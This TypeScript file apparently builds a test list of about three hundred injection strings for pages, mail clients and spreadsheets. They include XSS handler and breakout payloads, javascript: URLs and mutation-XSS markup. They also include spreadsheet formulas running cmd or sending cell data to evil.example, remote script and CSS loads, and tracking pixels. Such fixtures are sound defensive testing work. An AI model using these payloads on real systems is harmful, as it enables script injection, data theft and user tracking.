/** Strings that would run as code: in a page, a mail program or a spreadsheet. */
const tags = [
  ...['img', 'svg', 'body', 'video', 'audio', 'input', 'details', 'iframe', 'marquee', 'select', 'textarea', 'math'],
  ...['object', 'embed', 'form', 'button', 'a'],
];
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart'];

const handlersInTags = tags.flatMap((tag) =>
  handlers.map((handler) => `<${tag} src=x ${handler}=alert(1) autofocus open tabindex=0>`),
);

const outOfAttributes = ['"', "'", '`', '', '&quot;', '\\"'].flatMap((quote) =>
  handlers.map((handler) => `x${quote} ${handler}=alert(1) autofocus tabindex=0 y=${quote}`),
);

const outOfElements = ['</textarea>', '</title>', '</style>', '</noscript>', '</select>', '</option>', '</bdi>']
  .concat('</script>', '-->', ']]>', '"/>', "'/>", '<!--', '</td></table>')
  .flatMap((end) => [`${end}<script>alert(1)</script>`, `${end}<ScRiPt src=//evil.example/x.js></sCrIpT>`]);

const schemes = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', '&#106;avascript:alert(1)']
  .concat('data:text/html,<script>alert(1)</script>', 'vbscript:alert(1)', ' javascript:alert(1)')
  .concat('javascript://bale.example/%0aalert(1)', '//evil.example/%2f..', 'https://bale.example@evil.example/');

const links = schemes.flatMap((url) => [
  url,
  `<a href="${url}">x</a>`,
  `[x](${url})`,
  `<form action="${url}"><input type=submit></form>`,
]);

const otherGrammars = [
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
  '<a id=document><a id=document name=forms>',
  '<input name=action><input name=submit><input name=attributes>',
  '<custom-tag contenteditable onblur=alert(1)>x</custom-tag>',
  '<div style="background:url(javascript:alert(1));width:expression(alert(1))">x</div>',
  '<<script>alert(1);//<</script>',
];

const templates = [
  "{{constructor.constructor('alert(1)')()}}",
  '\x24{alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '{{7*7}}',
  '*{7*7}',
  '[[\x24{alert(1)}]]',
  '{name}',
  '{agency} {reference}',
  '%s %d %n',
  '{"__proto__":{"onerror":"alert(1)"}}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
];

const directions = ['\u202e', '\u202d', '\u2066', '\u2067', '\u2068', '\u200f', '\u061c'].flatMap((mark) => [
  `${mark}gpj.exe <b>Made</b>`,
  `Made ${mark}<img src=x onerror=alert(1)>${mark}`,
]);

const formulas = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '＝',
  '＋',
  '－',
  '＠',
  '"=',
  "';=",
  ',=',
  ';=',
].flatMap((begin) => [`${begin}cmd|' /C calc'!A1`, `${begin}HYPERLINK("https://evil.example/?"&A1,"x")`]);

const ofMails = [
  '<style>@import "//evil.example/x.css";</style>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<img src="//evil.example/seen.gif" width=1 height=1>',
  '<table background="//evil.example/seen.gif"><td>x</table>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
];

const ofScripts = [
  '"}];alert(1);//',
  "'-alert(1)-'",
  '</script><img src=x onerror=alert(1)>',
  '\u2028alert(1)//\u2029',
  '<!--<script>',
  '\\"><img src=x onerror=alert(1)>',
];

/** Three hundred of them. */
export const scriptStrings: readonly string[] = [
  ...[...handlersInTags, ...outOfAttributes, ...outOfElements, ...links, ...otherGrammars, ...templates],
  ...[...directions, ...formulas, ...ofMails, ...ofScripts],
];
